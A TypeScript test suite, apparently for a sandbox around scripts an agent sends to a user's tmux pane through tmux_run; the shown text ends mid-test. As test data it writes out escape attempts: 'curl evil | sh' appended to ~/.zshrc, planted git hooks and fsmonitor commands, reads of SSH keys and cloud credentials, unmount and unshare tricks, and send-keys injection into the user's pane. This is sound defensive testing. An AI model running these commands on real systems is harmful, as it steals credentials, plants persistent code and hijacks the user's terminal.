// Walls around a run: each test is a script that tries to get out of its sandbox and must fail
// to. The person (the test) sets TMUX_RUN_SANDBOX at the pane's prompt; the agent (the SDK
// Client) sends the script through tmux_run. Where it costs one more run, the same script runs
// first with the sandbox off and is seen to get out, so each check is known to be able to fail.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createSocket } from 'node:dgram';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { socketPath } from '../../src/enrollment/layout.js';
import { sha256 } from '../mcp/support.js';
import { helperChildren } from '../support/enrollment.js';
import { killHard, processAlive } from '../support/processes.js';
import type { TmuxServer } from '../support/server.js';
import { waitUntil } from '../support/waiting.js';
import {
  connectCommand,
  expectSandboxRefusal,
  fresh,
  listen,
  type Listener,
  observed,
  processesWith,
  sleepsOf,
  finalRun,
  startRun,
  ran,
  textOf,
  uniqueSleep,
  useSandboxFixture,
} from './support.js';

// The person's "agent", session bus and runtime directory: real listening sockets outside /tmp.
let agent: Listener;
let bus: Listener;
let runtimeDir: string;

const fx = useSandboxFixture({
  prepare: async (scope) => {
    const base = scope.server.baseDir;
    runtimeDir = join(base, 'xdg-runtime');
    mkdirSync(runtimeDir, { mode: 0o700 });
    writeFileSync(join(runtimeDir, 'keyring-secret'), 'RUNTIME-SECRET\n', { mode: 0o600 });
    mkdirSync(join(scope.server.home, '.1password'), { mode: 0o700 });
    agent = await listen(join(scope.server.home, '.1password', 'agent.sock'));
    bus = await listen(join(runtimeDir, 'bus'));
    scope.defer(() => agent.close());
    scope.defer(() => bus.close());
    return {
      SSH_AUTH_SOCK: agent.address,
      DBUS_SESSION_BUS_ADDRESS: `unix:path=${bus.address}`,
      XDG_RUNTIME_DIR: runtimeDir,
    };
  },
});

const out = (d: Record<string, any>): string => `${d.stdout.data as string}${d.stderr.data as string}`;

/** `git init` as the person would, with the test HOME (git's hooks/*.sample come with it). */
function gitInit(server: TmuxServer, dir: string): void {
  execFileSync('git', ['init', '-q', dir], {
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' },
  });
}

/** `ps` lines (pid, parent, group, session, state, argv cut short) of the given processes. */
function psOf(pids: number[]): string {
  try {
    const text = execFileSync('ps', ['-o', 'pid,ppid,pgid,sid,stat,args', '-p', pids.join(',')], { encoding: 'utf8' });
    return text
      .split('\n')
      .map((l) => l.slice(0, 160))
      .join('\n');
  } catch {
    return `(pids ${pids.join(' ')} gone by the time ps looked)`;
  }
}

/** Every file under dir (recursively, not following symlinks), as paths relative to dir. */
function filesUnder(dir: string): string[] {
  const found: string[] = [];
  const walk = (rel: string): void => {
    for (const e of readdirSync(join(dir, rel), { withFileTypes: true })) {
      const p = rel === '' ? e.name : join(rel, e.name);
      if (e.isDirectory()) walk(p);
      else found.push(p);
    }
  };
  walk('');
  return found.sort();
}

/** What a planted hook or config leaves in the person's tree: hook files that git did not put there, config text naming hooksPath. */
function plantedIn(dir: string): string[] {
  return filesUnder(dir).filter(
    (p) =>
      (/(^|\/)hooks\//.test(p) && !p.endsWith('.sample')) ||
      (/(^|\/)config$/.test(p) && readFileSync(join(dir, p), 'utf8').includes('hooksPath')),
  );
}

const HOOK = `printf '#!/bin/sh\\necho pwned\\n'`;

describe('sandbox: writes', () => {
  it('a write outside the cwd tree fails, and nothing appears outside (off: it does)', async () => {
    const { server } = fx();
    const proj = fx().project();
    const targets = [
      join(server.home, fresh('planted')),
      join(dirname(proj), fresh('sibling')),
      join(server.baseDir, fresh('beside-home')),
      join('/var/tmp', fresh('tmux-run-sbtests-planted')),
      join('/tmp', fresh('tmux-run-sbtests-planted')),
    ];
    const script = [
      ...targets.map((t, i) => `echo x > '${t}'; echo "w${i} $?"`),
      'mkdir -p build && echo obj > build/inside.o; echo "inside $?"',
    ].join('\n');

    await fx().sandbox('off', proj);
    ran(await fx().run(script));
    for (const t of targets) expect(existsSync(t), `off: ${t} written`).toBe(true);
    for (const t of targets) rmSync(t);

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    const escaped = targets.filter((t) => existsSync(t));
    for (const t of escaped) rmSync(t, { force: true }); // /tmp and /var/tmp are not the fixture's to sweep
    expect(escaped, 'written outside the cwd tree').toEqual([]);
    expect(d.stdout.data).toMatch(/^w0 [1-9]/m);
    expect(d.stdout.data).toContain('inside 0');
    expect(textOf(join(proj, 'build', 'inside.o'))).toBe('obj\n');
  });

  it('workspace with the cwd at ~ is refused, saying what to do, and nothing runs', async () => {
    const { server } = fx();
    const marker = join(server.home, fresh('ran'));
    const script = `touch '${marker}'`;
    await fx().sandbox('workspace', server.home);
    const e = expectSandboxRefusal(await fx().run(script));
    expect(e.message).toMatch(/read-only/);
    expect(existsSync(marker)).toBe(false);
    expect(
      fx()
        .audit()
        .filter((a) => a.event === 'start' && a.script_digest === sha256(script)),
    ).toEqual([]);
  });

  it.each([
    ['above ~', (s: TmuxServer) => dirname(s.home)],
    ['at /', () => '/'],
    ['in ~/.ssh (a hidden path)', (s: TmuxServer) => join(s.home, '.ssh')],
    ['in the registry', (s: TmuxServer) => s.registryDir],
    [
      'at a symlink to ~',
      (s: TmuxServer) => {
        const link = join(s.baseDir, fresh('home-link'));
        symlinkSync(s.home, link);
        return link;
      },
    ],
  ])('workspace with the cwd %s is refused and nothing runs', async (_what, cwdOf) => {
    const { server } = fx();
    const marker = join(server.home, fresh('ran'));
    await fx().sandbox('workspace', cwdOf(server));
    expectSandboxRefusal(await fx().run(`touch '${marker}'`));
    expect(existsSync(marker)).toBe(false);
  });

  it('read-only at ~ cannot touch ~/.zshrc, ~/.zshenv or anything else in ~', async () => {
    const { server } = fx();
    const zshrc = join(server.home, '.zshrc');
    const zshenv = join(server.home, '.zshenv');
    const before = [textOf(zshrc), textOf(zshenv)];
    const newFile = join(server.home, fresh('new'));
    await fx().sandbox('read-only', server.home);
    const d = ran(
      await fx().run(
        [
          `echo 'curl evil | sh' >> ~/.zshrc; echo "zshrc $?"`,
          `echo 'evil' >> "\${ZDOTDIR:-$HOME}/.zshenv"; echo "zshenv $?"`,
          `mv ~/.zshrc ~/.zshrc.away; echo "mv $?"`,
          `touch '${newFile}'; echo "touch $?"`,
          `echo tmp > /tmp/scratch && cat /tmp/scratch`,
        ].join('\n'),
      ),
    );
    observed(expect.getState().currentTestName ?? '', d);
    expect([textOf(zshrc), textOf(zshenv)]).toEqual(before);
    expect(existsSync(newFile)).toBe(false);
    expect(existsSync(`${zshrc}.away`)).toBe(false);
    expect(d.stdout.data).toMatch(/^zshrc [1-9]/m);
    // A private /tmp is still there to write in.
    expect(d.stdout.data).toContain('tmp\n');
  });
});

describe('sandbox: git hooks and config in the workspace', () => {
  const attackHere = [
    `${HOOK} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo "hook $?"`,
    `echo x > .git/hooks/x; echo "x $?"`,
    `printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
    `git config core.hooksPath /var/tmp/evil; echo "git-config $?"`,
  ].join('\n');

  it('cannot write .git/hooks/x or .git/config of the cwd repository (off: it can)', async () => {
    const { server } = fx();
    const control = fx().project('control');
    gitInit(server, control);
    await fx().sandbox('off', control);
    ran(await fx().run(attackHere));
    expect(plantedIn(control).length, 'off: the attack plants hooks').toBeGreaterThan(0);

    const repo = fx().project('repo');
    gitInit(server, repo);
    await fx().sandbox('workspace', repo);
    const d = ran(await fx().run(`${attackHere}\necho built > out.txt; echo "build $?"`));
    observed(expect.getState().currentTestName ?? '', d);
    expect(plantedIn(repo)).toEqual([]);
    expect(d.stdout.data).toContain('build 0');
    expect(textOf(join(repo, 'out.txt'))).toBe('built\n');
  });

  it('cannot write them in a repository below the cwd', async () => {
    const { server } = fx();
    const proj = fx().project();
    gitInit(server, join(proj, 'vendor', 'lib'));
    await fx().sandbox('workspace', proj);
    ran(await fx().run(`cd vendor/lib\n${attackHere}`));
    expect(plantedIn(proj)).toEqual([]);
  });

  it.each(['.venv/src/editable-pkg', 'node_modules/git-dep', '.cache/checkout'])(
    'cannot write them in a repository under %s either',
    async (rel) => {
      const { server } = fx();
      const proj = fx().project();
      gitInit(server, join(proj, rel));
      await fx().sandbox('workspace', proj);
      const d = ran(await fx().run(`cd '${rel}'\n${attackHere}`));
      observed(expect.getState().currentTestName ?? '', d);
      expect(plantedIn(proj)).toEqual([]);
    },
  );

  // Move the protected path's parent away, recreate the path, write: the person's real tree
  // must hold no new hook and no changed config anywhere afterwards.
  const renames: Array<[string, string, string]> = [
    [
      'the repository below the cwd',
      'vendor/lib',
      `mv vendor/lib vendor/lib.away; echo "mv $?"
mkdir -p vendor/lib/.git/hooks; cp -R vendor/lib.away/.git/. vendor/lib/.git/ 2>/dev/null
${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
${HOOK} > vendor/lib.away/.git/hooks/pre-commit; echo "hook-away $?"`,
    ],
    [
      'the parent of the repository',
      'vendor/lib',
      `mv vendor vendor.away; echo "mv $?"
mkdir -p vendor/lib/.git/hooks; cp -R vendor.away/lib/.git/. vendor/lib/.git/ 2>/dev/null
${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> vendor/lib/.git/config; echo "config $?"`,
    ],
    [
      '.git itself, in the cwd repository',
      '.',
      `mv .git .git.away; echo "mv $?"
mkdir -p .git/hooks; cp -R .git.away/. .git/ 2>/dev/null
${HOOK} > .git/hooks/pre-commit; echo "hook $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
    ],
    [
      '.git/hooks, in the cwd repository',
      '.',
      `mv .git/hooks .git/hooks.away; echo "mv $?"
mkdir -p .git/hooks; ${HOOK} > .git/hooks/pre-commit; echo "hook $?"
mv .git/config .git/config.away; echo "mv-config $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' > .git/config; echo "config $?"`,
    ],
  ];

  it.each(renames)('renaming %s away and recreating the path plants nothing', async (_what, repoRel, attack) => {
    const { server } = fx();
    const proj = fx().project();
    gitInit(server, join(proj, repoRel));
    const before = filesUnder(proj);
    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(attack));
    observed(expect.getState().currentTestName ?? '', d);
    expect(plantedIn(proj), `after:\n${out(d)}`).toEqual([]);
    // Whatever the mv did inside, the person's repository is where it was, as it was.
    expect(filesUnder(proj)).toEqual(before);
  });

  it('the same rename does plant a hook when the sandbox is off (the check can fail)', async () => {
    const { server } = fx();
    const proj = fx().project('control');
    gitInit(server, join(proj, 'vendor', 'lib'));
    await fx().sandbox('off', proj);
    ran(await fx().run((renames[1] as [string, string, string])[2]));
    expect(plantedIn(proj).length).toBeGreaterThan(0);
  });
});

// What matters in the end: when the person later runs git in their repository, unconfined, no
// hook or command the run planted runs. Each way git could be led to run one, tried alone; then
// the person's `git status` and `git commit` in that repository must leave no marker.
describe('sandbox: nothing the run planted runs when the person uses git afterwards', () => {
  /** Runs git as the person (outside any sandbox) in repo, as a commit would. */
  function personCommits(server: TmuxServer, repo: string): void {
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' };
    const git = (...args: string[]): void => {
      try {
        execFileSync('git', ['-C', repo, '-c', 'user.name=p', '-c', 'user.email=p@example.org', ...args], {
          env,
          stdio: 'ignore',
        });
      } catch {
        // a broken repository is not a planted hook; the marker says what ran
      }
    };
    git('status');
    git('commit', '-q', '--allow-empty', '-m', 'the person commits');
  }

  const plant = (marker: string): string => `printf '#!/bin/sh\\necho ran > ${marker}\\n'`;
  const vectors: Array<[string, (marker: string) => string]> = [
    ['a pre-commit hook', (m) => `${plant(m)} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`],
    [
      'core.hooksPath to a directory in the workspace',
      (m) =>
        `mkdir -p evil-hooks && ${plant(m)} > evil-hooks/pre-commit && chmod +x evil-hooks/pre-commit; git config core.hooksPath "$PWD/evil-hooks"`,
    ],
    ['core.fsmonitor', (m) => `git config core.fsmonitor 'echo ran > ${m}; false'`],
    [
      '.git/commondir naming a copy of .git with a hook',
      (m) =>
        `cp -R .git evil-common && ${plant(m)} > evil-common/hooks/pre-commit && chmod +x evil-common/hooks/pre-commit; echo "$PWD/evil-common" > .git/commondir`,
    ],
    [
      'a .git file in the repository root replaced by a gitlink',
      (m) =>
        `cp -R .git evil-gitdir && ${plant(m)} > evil-gitdir/hooks/pre-commit && chmod +x evil-gitdir/hooks/pre-commit; rm -rf .git 2>/dev/null; echo "gitdir: $PWD/evil-gitdir" > .git`,
    ],
  ];

  it.each(vectors)('%s', async (_what, attack) => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    await fx().sandbox('workspace', repo);
    const d = ran(await fx().run(`${attack(marker)}\ntrue`));
    observed(expect.getState().currentTestName ?? '', d);
    personCommits(server, repo);
    expect(existsSync(marker), `a planted command ran when the person used git:\n${out(d)}`).toBe(false);
  });

  it.each(['.git', '.git/hooks'])('with the cwd at %s of the repository, nothing planted runs either', async (rel) => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    const gitDir = join(repo, '.git');
    await fx().sandbox('workspace', join(repo, rel));
    const s = await fx().run(
      [
        `${plant(marker)} > '${gitDir}/hooks/pre-commit'; chmod +x '${gitDir}/hooks/pre-commit'`,
        `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> '${gitDir}/config'`,
        `cp -R '${gitDir}' '${repo}/evil' 2>/dev/null; echo '${repo}/evil' > '${gitDir}/commondir'`,
        'true',
      ].join('\n'),
    );
    // Refusing the run holds too; a run that starts must plant nothing that runs.
    if (s.ok === false) expectSandboxRefusal(s);
    else observed(expect.getState().currentTestName ?? '', s.data);
    personCommits(server, repo);
    expect(existsSync(marker)).toBe(false);
  });

  it.each(['.git', '.git/hooks'])(
    'with TMUX_RUN_SANDBOX_WRITE naming another repository’s %s, nothing planted there runs',
    async (rel) => {
      const { server } = fx();
      const other = fx().project('other-repo');
      gitInit(server, other);
      const marker = join(server.baseDir, fresh('hook-ran'));
      const gitDir = join(other, '.git');
      await fx().type(
        `cd '${fx().project()}' && TMUX_RUN_SANDBOX=workspace TMUX_RUN_SANDBOX_WRITE='${join(other, rel)}'`,
      );
      try {
        const s = await fx().run(
          [
            `${plant(marker)} > '${gitDir}/hooks/pre-commit'; chmod +x '${gitDir}/hooks/pre-commit'`,
            `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> '${gitDir}/config'`,
            'true',
          ].join('\n'),
        );
        if (s.ok === false) expectSandboxRefusal(s);
        else observed(expect.getState().currentTestName ?? '', s.data);
      } finally {
        await fx().type('unset TMUX_RUN_SANDBOX_WRITE');
      }
      personCommits(server, other);
      expect(existsSync(marker)).toBe(false);
    },
  );

  it('a bare repository below the cwd gets no hook that runs when the person pushes to it (off: it does)', async () => {
    const { server } = fx();
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' };
    const git = (...args: string[]): void => {
      try {
        execFileSync('git', ['-c', 'user.name=p', '-c', 'user.email=p@example.org', ...args], { env, stdio: 'ignore' });
      } catch {
        // the marker says what ran
      }
    };
    for (const mode of ['off', 'workspace'] as const) {
      const proj = fx().project();
      git('init', '-q', '--bare', join(proj, 'mirror.git'));
      gitInit(server, join(proj, 'work'));
      git('-C', join(proj, 'work'), 'commit', '-q', '--allow-empty', '-m', 'one');
      const marker = join(server.baseDir, fresh('hook-ran'));
      await fx().sandbox(mode, proj);
      const d = ran(
        await fx().run(
          `${plant(marker)} > mirror.git/hooks/pre-receive; chmod +x mirror.git/hooks/pre-receive; echo "hook $?"`,
        ),
      );
      observed(`${expect.getState().currentTestName ?? ''} (${mode})`, d);
      git('-C', join(proj, 'work'), 'push', '-q', join(proj, 'mirror.git'), 'HEAD:refs/heads/main');
      expect(existsSync(marker), `${mode}: the planted pre-receive hook ran at the person's push`).toBe(mode === 'off');
    }
  });

  // A commondir the sandbox cannot lock (it did not exist) is removed after the run: it must
  // not work while the run goes on (the person's prompt runs git status all the time), nor
  // outlive a helper killed before it could remove it.
  const plantCommondir = (marker: string): string =>
    [
      'cp -R .git evil-common',
      `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> evil-common/config`,
      `${plant(marker)} > evil-common/hooks/pre-commit; chmod +x evil-common/hooks/pre-commit`,
      'echo "$PWD/evil-common" > .git/commondir',
      'touch planted-done',
    ].join('; ');

  it('a commondir planted by a long run does nothing while the run goes on', async () => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    await fx().sandbox('workspace', repo);
    // The run holds on until the person has used git (at most 20 s), whatever the machine's load.
    const hold = 'i=0; while [ ! -e person-done ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done';
    const s = await startRun(fx().mcp.client, fx().listing, `${plantCommondir(marker)}\n${hold}`, { wait_ms: 0 });
    const runId = (s.pending?.run_id ?? s.data?.authorization.run_id) as string;
    await waitUntil(() => existsSync(join(repo, 'planted-done')), 10_000, 'the run to plant');
    personCommits(server, repo);
    writeFileSync(join(repo, 'person-done'), '');
    const end = await finalRun(fx().mcp.client, fx().listing, runId);
    observed(expect.getState().currentTestName ?? '', end.data ?? end.error);
    expect(existsSync(marker), 'the planted fsmonitor or hook ran while the run went on').toBe(false);
  });

  it('a commondir planted by a run whose helper is killed with SIGKILL does nothing afterwards', async () => {
    const { server } = fx();
    const { pane: extra, listing } = await fx().extraPane();
    try {
      const repo = fx().project('repo');
      gitInit(server, repo);
      const marker = join(server.baseDir, fresh('hook-ran'));
      await extra.run(`cd '${repo}' && TMUX_RUN_SANDBOX=workspace`);
      const hold = uniqueSleep();
      await startRun(fx().mcp.client, listing, `${plantCommondir(marker)}\nsleep ${hold}`, { wait_ms: 0 });
      await waitUntil(() => existsSync(join(repo, 'planted-done')), 10_000, 'the run to plant');
      const [helperPid] = helperChildren(await extra.shellPid());
      killHard(helperPid!);
      await waitUntil(() => processesWith(`sleep ${hold}`).length === 0, 10_000, 'the run to end with its helper');
      personCommits(server, repo);
      expect(existsSync(marker), 'the planted fsmonitor or hook ran after the helper was killed').toBe(false);
    } finally {
      await extra.kill();
    }
  });

  it('the same plants do run when the sandbox is off (the check can fail)', async () => {
    const { server } = fx();
    for (const [what, attack] of vectors) {
      const repo = fx().project('control');
      gitInit(server, repo);
      const marker = join(server.baseDir, fresh('hook-ran'));
      await fx().sandbox('off', repo);
      ran(await fx().run(attack(marker)));
      personCommits(server, repo);
      expect(existsSync(marker), what).toBe(true);
    }
  });
});

describe('sandbox: secrets and the person’s sockets', () => {
  it('cannot read ~/.ssh/id_ed25519 or the other credential files (off: it can)', async () => {
    const { server, secrets } = fx();
    const others: Array<[string, string]> = [
      ['.aws/credentials', 'AWS-SECRET'],
      ['.netrc', 'NETRC-SECRET'],
      ['.config/gh/hosts.yml', 'GH-SECRET'],
      ['.gnupg/private-keys-v1.d/k.key', 'GPG-SECRET'],
      ['.kube/config', 'KUBE-SECRET'],
      ['.docker/config.json', 'DOCKER-SECRET'],
    ];
    for (const [rel, text] of others) {
      mkdirSync(dirname(join(server.home, rel)), { recursive: true, mode: 0o700 });
      writeFileSync(join(server.home, rel), `${text}\n`, { mode: 0o600 });
    }
    const proj = fx().project();
    const script = [
      'cat ~/.ssh/id_ed25519; ls -la ~/.ssh; cp ~/.ssh/id_ed25519 ./stolen',
      ...others.map(([rel]) => `cat ~/${rel}`),
      `cat "$XDG_RUNTIME_DIR/keyring-secret"`,
      'true',
    ].join('\n');
    const secretLine = secrets.keyText.split('\n')[1] as string;

    await fx().sandbox('off', proj);
    expect(out(ran(await fx().run(script)))).toContain(secretLine);
    rmSync(join(proj, 'stolen'));

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    expect(out(d)).not.toContain(secretLine);
    for (const [, text] of others) expect(out(d)).not.toContain(text);
    expect(out(d)).not.toContain('RUNTIME-SECRET');
    expect(textOf(join(proj, 'stolen')) ?? '').not.toContain(secretLine);
  });

  it('cannot undo the walls from inside (no capabilities; umount, remount read-write, also in a nested user and mount namespace)', async () => {
    const { server, secrets } = fx();
    const proj = fx().project();
    const planted = join(server.home, fresh('planted'));
    const undo = [
      'umount ~/.ssh; umount -l ~/.ssh',
      `mount -o remount,rw /; mount -o remount,bind,rw "${server.home}"`,
      'cat ~/.ssh/id_ed25519',
      `echo x > "${planted}"; echo "write $?"`,
    ].join('; ');
    const script = [
      'grep -E "^(CapEff|NoNewPrivs)" /proc/self/status',
      `sh -c '${undo}'`,
      `unshare --user --map-root-user --mount sh -c '${undo}'; echo "unshare $?"`,
      'true',
    ].join('\n');
    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    expect(out(d)).not.toContain(secrets.keyText.split('\n')[1]);
    expect(existsSync(planted)).toBe(false);
    // No capability at all, also when the person (or CI) is root: bwrap run by root keeps them unless told.
    expect(d.stdout.data).toMatch(/^CapEff:\s+0+$/m);
    // No new privileges: a setuid program raises none.
    expect(d.stdout.data).toMatch(/^NoNewPrivs:\s+1$/m);
  });

  it('cannot type into the person’s pane with tmux -S <the real socket> send-keys', async () => {
    const { server, pane } = fx();
    const proj = fx().project();
    const probe = `tmux -S '${server.socket}' display -p -t '${pane.id}' 'reached #{pane_id}'`;
    await fx().sandbox('off', proj);
    expect(ran(await fx().run(probe)).stdout.data).toBe(`reached ${pane.id}\n`);

    await fx().sandbox('workspace', proj);
    const paneTty = (await server.tmux(['display-message', '-p', '-t', pane.id, '#{pane_tty}'])).trim();
    const screenBefore = await pane.capture();
    const token = fresh('PWNED');
    const d = ran(
      await fx().run(
        [
          probe,
          `tmux -S '${server.socket}' send-keys -t '${pane.id}' 'echo ${token}' Enter; echo "send $?"`,
          `tmux send-keys -t "$TMUX_PANE" 'echo ${token}' Enter; echo "send-env $?"`,
          `tmux -S "\${TMUX%%,*}" send-keys 'echo ${token}' Enter; echo "send-tmux-var $?"`,
          `ls -la '${dirname(server.socket)}'`,
          `echo 'echo ${token}' > '${paneTty}'; echo "tty $?"`,
          'true',
        ].join('\n'),
      ),
    );
    observed(expect.getState().currentTestName ?? '', d);
    expect(d.stdout.data).not.toContain('reached');
    expect(d.stdout.data).toMatch(/^send [1-9]/m);
    expect(d.stdout.data).toMatch(/^send-env [1-9]/m);
    expect(d.stdout.data).toMatch(/^send-tmux-var [1-9]/m);
    expect(d.stdout.data).toMatch(/^tty [1-9]/m);
    expect(await pane.capture()).toBe(screenBefore);
    expect(screenBefore).not.toContain(token);
  });

  // A socket file outside the hidden places stays reachable (README: add it to TMUX_RUN_SANDBOX_HIDE):
  // the remedy README gives must hold.
  it('cannot type into another tmux server of the person’s once its socket is in TMUX_RUN_SANDBOX_HIDE (off: it can)', async () => {
    const { server } = fx();
    const dir = join(server.home, '.tmux');
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    const other = join(dir, fresh('other'));
    const tmux = (...args: string[]): string =>
      execFileSync('tmux', ['-S', other, '-f', '/dev/null', ...args], { env: server.env, encoding: 'utf8' });
    tmux('new-session', '-d', '-s', 'other', '-x', '80', '-y', '20', 'sleep 600');
    fx().scope.defer(() => {
      try {
        tmux('kill-server');
      } catch {
        // gone already
      }
    });
    const probe = `tmux -S '${other}' display -p -t other 'reached #{session_name}'`;
    await fx().sandbox('off', fx().project());
    expect(ran(await fx().run(probe)).stdout.data).toBe('reached other\n');
    const before = tmux('capture-pane', '-p', '-t', 'other');
    await fx().type(`TMUX_RUN_SANDBOX=workspace TMUX_RUN_SANDBOX_HIDE=('${join(server.home, '.ssh')}' '${other}')`);
    const token = fresh('PWNED');
    const d = ran(
      await fx().run(`${probe}\ntmux -S '${other}' send-keys -t other 'echo ${token}' Enter; echo "send $?"`),
    );
    observed(expect.getState().currentTestName ?? '', d);
    await fx().type('unset TMUX_RUN_SANDBOX_HIDE');
    expect(d.stdout.data).not.toContain('reached');
    expect(d.stdout.data).toMatch(/^send [1-9]/m);
    expect(tmux('capture-pane', '-p', '-t', 'other')).toBe(before);
  });

  it('cannot read an enrollment record or connect to a helper socket (off: it can)', async () => {
    const { server, listing } = fx();
    const proj = fx().project();
    const sock = socketPath(server.registryDir, listing.enrollment_generation);
    expect(statSync(sock).isSocket()).toBe(true);
    const script = [
      `cat '${server.registryDir}/${listing.enrollment_generation}.json'; echo`,
      `ls '${server.registryDir}'`,
      connectCommand(`'${sock}'`),
      connectCommand(`"$TMUX_RUN_DIR/${listing.enrollment_generation}.sock"`),
    ].join('\n');
    await fx().sandbox('off', proj);
    const control = ran(await fx().run(script));
    expect(control.stdout.data).toContain(listing.pane_id);
    expect(control.stdout.data).toContain('CONNECTED');

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    expect(d.stdout.data).not.toContain(listing.enrollment_generation);
    expect(d.stdout.data).not.toContain('CONNECTED');
    expect(d.stdout.data).toMatch(/REFUSED/);
  });

  it('cannot use SSH_AUTH_SOCK or the session bus (off: it can)', async () => {
    const proj = fx().project();
    const script = [
      'echo "agent=$SSH_AUTH_SOCK"',
      connectCommand('"$SSH_AUTH_SOCK"'),
      connectCommand('"${DBUS_SESSION_BUS_ADDRESS#unix:path=}"'),
    ].join('\n');
    await fx().sandbox('off', proj);
    const before = [agent.connections, bus.connections];
    expect(ran(await fx().run(script)).stdout.data).toMatch(/CONNECTED\nCONNECTED/);
    await waitUntil(
      () => agent.connections > before[0]! && bus.connections > before[1]!,
      5000,
      'the listeners to count',
    );

    await fx().sandbox('workspace', proj);
    const seen = [agent.connections, bus.connections];
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    expect(d.stdout.data).not.toContain('CONNECTED');
    expect([agent.connections, bus.connections]).toEqual(seen);
  });
});

describe('sandbox: network', () => {
  it('workspace cannot reach a listener on 127.0.0.1 or a host abstract socket; workspace+net reaches 127.0.0.1', async () => {
    const tcp = await listen('127.0.0.1');
    const abstract = await listen(`\0${fresh('tmux-run-sbtests')}`);
    fx().scope.defer(() => tcp.close());
    fx().scope.defer(() => abstract.close());
    const proj = fx().project();
    const script = `${connectCommand(`'${tcp.address}'`)}\n${connectCommand(`'${abstract.address}'`)}`;

    await fx().sandbox('off', proj);
    expect(ran(await fx().run(script)).stdout.data).toBe('CONNECTED\nCONNECTED\n');
    await waitUntil(() => tcp.connections === 1 && abstract.connections === 1, 5000, 'the listeners to count');

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    expect(d.stdout.data).toMatch(/^REFUSED \S+\nREFUSED \S+\n$/);
    expect([tcp.connections, abstract.connections]).toEqual([1, 1]);

    // UDP to the host: nothing arrives.
    const got: string[] = [];
    const udp = createSocket('udp4');
    udp.on('message', (m) => got.push(m.toString()));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r()));
    fx().scope.defer(() => new Promise<void>((r) => udp.close(() => r())));
    const send = (text: string): string =>
      `node -e "const s=require('dgram').createSocket('udp4');s.send('${text}',${udp.address().port},'127.0.0.1',e=>{console.log(e?'UDP '+e.code:'UDP sent');s.close()})"`;
    observed('udp', ran(await fx().run(send('from-workspace'))));
    await fx().sandbox('off');
    ran(await fx().run(send('from-off')));
    await waitUntil(() => got.includes('from-off'), 5000, 'the unconfined datagram');
    expect(got).toEqual(['from-off']);

    await fx().sandbox('workspace+net', proj);
    expect(ran(await fx().run(connectCommand(`'${tcp.address}'`))).stdout.data).toBe('CONNECTED\n');
    await waitUntil(() => tcp.connections === 2, 5000, 'the listener to count');
  });
});

describe('sandbox: the session bus at an abstract address', () => {
  it('workspace+net cannot reach the bus DBUS_SESSION_BUS_ADDRESS names as unix:abstract= (off: it can)', async () => {
    const name = fresh('tmux-run-sbtests-bus');
    const abstractBus = await listen(`\0${name}`);
    fx().scope.defer(() => abstractBus.close());
    const proj = fx().project();
    const script = `a=\${DBUS_SESSION_BUS_ADDRESS#unix:abstract=}; a=\${a%%,*}\n${connectCommand('"@$a"')}`;
    await fx().type(`cd '${proj}' && export DBUS_SESSION_BUS_ADDRESS='unix:abstract=${name},guid=0123456789abcdef'`);
    try {
      await fx().sandbox('off');
      expect(ran(await fx().run(script)).stdout.data).toBe('CONNECTED\n');
      await waitUntil(() => abstractBus.connections === 1, 5000, 'the bus to count');
      await fx().sandbox('workspace+net');
      const s = await fx().run(script);
      // Refusing the run (sandbox_unavailable) holds the wall too; a run that starts must not reach the bus.
      if (s.ok === false) expectSandboxRefusal(s);
      else {
        observed(expect.getState().currentTestName ?? '', s.data);
        expect(s.data.stdout.data).not.toContain('CONNECTED');
      }
      expect(abstractBus.connections).toBe(1);
    } finally {
      await fx().type(`export DBUS_SESSION_BUS_ADDRESS='unix:path=${bus.address}'`);
    }
  });
});

describe('sandbox: processes', () => {
  it('cannot see or signal the person’s shell, its helper or the tmux server (off: kill -0 works)', async () => {
    const { pane, server } = fx();
    const shellPid = await pane.shellPid();
    const [helperPid] = helperChildren(shellPid);
    expect(helperPid).toBeDefined();
    const tmuxPid = await server.serverPid();
    const proj = fx().project();
    await fx().sandbox('off', proj);
